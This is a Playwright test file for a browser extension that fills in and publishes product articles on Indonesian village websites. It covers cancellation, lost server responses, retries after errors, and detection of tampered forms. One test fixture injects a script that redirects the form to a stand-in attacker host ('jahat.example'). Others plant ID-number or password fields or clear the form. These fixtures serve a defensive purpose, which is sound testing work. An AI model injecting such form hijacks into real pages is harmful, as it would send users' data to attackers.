import { expect, test } from '@playwright/test';
import { type ExtensionBrowser, openBrowser } from '#stack/browser.ts';
import { type Market, startMarket } from '#stack/market.ts';
import { LessonNote } from '#stack/pages/lessonNote.ts';
import { Options } from '#stack/pages/options.ts';
import type { Panel } from '#stack/pages/panel.ts';
import { Popup } from '#stack/pages/popup.ts';
import type { VillageOptions } from '#tests/cms/doubles/village/axes.ts';
import type { VillageSite } from '#tests/cms/doubles/village.ts';
import { DrivenSite, GO } from './pages/drivenSite.ts';
import { unless } from './pages/longRun.ts';

const LEARNED = /hanya bisa ditulis di depan Anda.*menekan “Simpan”/;
const DONE = 'Selesai. Artikelnya sudah terlihat';

let market: Market;
let browser: ExtensionBrowser;
let shown: DrivenSite;
let site: VillageSite;
test.beforeAll(async () => {
  market = await startMarket();
});
test.afterAll(() => market.stop());
test.beforeEach(async () => {
  browser = await openBrowser({ headless: true });
});
test.afterEach(async () => {
  await browser.close();
  await site.stop();
});

async function village(traits: Partial<VillageOptions>): Promise<void> {
  shown = await DrivenSite.open(browser, market, traits);
  site = shown.site;
  await (await shown.show('Gula semut')).says(LEARNED);
}

const SITES: [string, Partial<VillageOptions>][] = [
  ['Livewire', { flavour: 'driven', editor: 'textarea' }],
  ['a key in the page’s storage', { flavour: 'storageToken', editor: 'quillLike' }],
  ['every article in each save', { flavour: 'whole', editor: 'textarea' }],
];

// Of the others one set of traits each is in every run of `learnedDrivenPairs`.
for (const [name, traits] of SITES)
  test(`${name}: shown once, then written in sight after “write now”`, unless(name === 'Livewire'), async () => {
    await village(traits);
    expect(site.articles()).toHaveLength(4);

    const panel = await shown.sell('Keripik singkong');
    const driven = await shown.writeNow(panel);
    await (await LessonNote.on(driven)).says(DONE);
    const [, , , , added, ...more] = site.articles();
    expect(more).toEqual([]);
    expect(added).toMatchObject({ title: 'Keripik singkong', isPublished: true });
    expect(site.foreignUntouched()).toBe(true);
    await expect(panel.frame.getByText('artikelnya sudah ada di situs desa')).toBeVisible();
  });

/** A Livewire site that was shown, and a second product that waits for "write now". */
async function waiting(): Promise<Panel> {
  await village({ flavour: 'driven', editor: 'textarea' });
  const panel = await shown.sell('Keripik singkong');
  await panel.frame.getByRole('button', { name: GO }).waitFor();
  return panel;
}

const saves = () => site.requests.filter(({ method, path }) => method === 'POST' && path.includes('/livewire/update'));

test('“Berhenti” before the press: nothing is saved, and it waits again', async () => {
  const panel = await waiting();
  const before = saves().length;
  const driven = await shown.writeNow(panel);
  const note = await LessonNote.on(driven);
  await note.press('Berhenti');
  await note.says('Dihentikan. Tidak ada yang disimpan');
  await expect(panel.frame.getByText('Anda menghentikannya')).toBeVisible();
  expect([saves().length - before, site.articles().length]).toEqual([0, 4]);

  const again = await shown.writeNow(panel);
  await (await LessonNote.on(again)).says(DONE);
  expect(site.articles()).toHaveLength(5);
});

// “Berhenti” stands for every end before the press.
test('the tab is closed before the press: nothing is saved, and it waits again', unless(false), async () => {
  const panel = await waiting();
  const before = saves().length;
  const driven = await shown.writeNow(panel);
  await (await LessonNote.on(driven)).says('Dodolan mengisi formulir ini');
  await driven.close();
  await expect(panel.frame.getByText('Tabnya tertutup atau berpindah sebelum disimpan')).toBeVisible();
  expect([saves().length - before, site.articles().length]).toEqual([0, 4]);
});

test('the site saves and its answer is lost: the article is found in public, and there is one', async () => {
  const panel = await waiting();
  site.failNext('drop_answer', 'save');
  const driven = await shown.writeNow(panel);
  await (await LessonNote.on(driven)).says(DONE);
  expect(site.articles()).toHaveLength(5);
});

test('the site answers 500: the person looks first, and only their word and press try again', async () => {
  const panel = await waiting();
  site.failNext('500', 'save');
  const before = saves().length;
  const driven = await shown.writeNow(panel);
  await (await LessonNote.on(driven)).says('Tombolnya sudah ditekan, tetapi artikelnya belum terlihat');
  await expect(panel.frame.getByText('Tidak jelas apakah artikel yang terakhir tersimpan')).toBeVisible();
  await driven.close();
  await panel.page.reload();
  expect(saves().length - before).toBe(1);

  const popup = await Popup.open(browser);
  await popup.showListings();
  await popup.page.getByRole('button', { name: 'Belum ada di sana' }).click();
  const opened = browser.context.waitForEvent('page');
  await popup.page.getByRole('button', { name: GO }).click();
  await (await LessonNote.on(await opened)).says(DONE);
  expect([saves().length - before, site.articles().length]).toEqual([2, 5]);
  expect(site.foreignUntouched()).toBe(true);
});

const CHANGED: [string, string, RegExp, RegExp][] = [
  [
    'asks for something more',
    `form.insertAdjacentHTML('beforeend', '<label>NIK <input type="text" id="nik"></label>')`,
    /berbeda dari yang pernah Anda tunjukkan/,
    /Formulir artikel di situs desa berbeda/,
  ],
  [
    'has a second button that says the same',
    `form.insertAdjacentHTML('beforeend', '<button type="submit">Simpan</button>')`,
    /dua tombol dengan tulisan yang sama/,
    /ada dua tombol dengan tulisan yang sama/,
  ],
  [
    'is sent to another host',
    `form.setAttribute('action', 'https://jahat.example/ambil')`,
    /dikirim ke alamat lain/,
    /sekarang dikirim ke alamat lain/,
  ],
  [
    'changes while it is filled in',
    `document.querySelector('#judul').addEventListener('input', () => setTimeout(() => form.insertAdjacentHTML('beforeend', '<label>NIK <input type="text" id="nik"></label>'), 200))`,
    /berbeda dari yang pernah Anda tunjukkan/,
    /Formulir artikel di situs desa berbeda/,
  ],
  [
    'holds words already',
    `document.querySelector('#judul').value = 'Konsep Bu Carik'`,
    /sudah berisi tulisan/,
    /sudah berisi tulisan lain/,
  ],
  [
    'takes out what is put in',
    `setInterval(() => { document.querySelector('textarea').value = '' }, 100)`,
    /tidak menerima sebagian isinya/,
    /tidak menerima sebagian isinya/,
  ],
  [
    'asks for a password',
    `form.insertAdjacentHTML('beforeend', '<label>Sandi <input type="password" id="sandi"></label>')`,
    /meminta masuk dulu|kata sandi/,
    /kata sandi|sudah berakhir/,
  ],
];

/** The others are tried over the driver in every run (`tests/utils/cms/learned/driven`). */
const IN_EVERY_RUN = ['is sent to another host', 'changes while it is filled in'];

for (const [name, script, said, told] of CHANGED)
  test(
    `a form that ${name} is not pressed, and the person is told why`,
    unless(IN_EVERY_RUN.includes(name)),
    async () => {
      const panel = await waiting();
      const before = saves().length;
      site.changeForm(script);
      const driven = await shown.writeNow(panel);
      await (await LessonNote.on(driven)).says(said);
      await expect(panel.frame.getByText(told)).toBeVisible();
      expect([saves().length - before, site.articles().length]).toEqual([0, 4]);
    },
  );

test('the options say it in plain words, and forget it', async () => {
  await village({ flavour: 'driven', editor: 'textarea' });
  const { page } = await Options.open(browser);
  const recipe = page.locator('#recipes .recipe');
  await expect(recipe.locator('dl > div').filter({ hasText: /^Tombol/ })).toHaveText(
    /Simpan.*ditekan di depan Anda, setelah “Tulis sekarang”/,
  );
  await expect(recipe.locator('dl > div').filter({ hasText: /^Isi/ }).locator('.recipe-name')).toHaveText('isi');
  await expect(recipe.getByRole('button', { name: /Tunjuk/ })).toHaveCount(0);
  await recipe.getByRole('button', { name: /Hapus cara menyimpan/ }).click();
  await expect(recipe).toHaveCount(0);
});
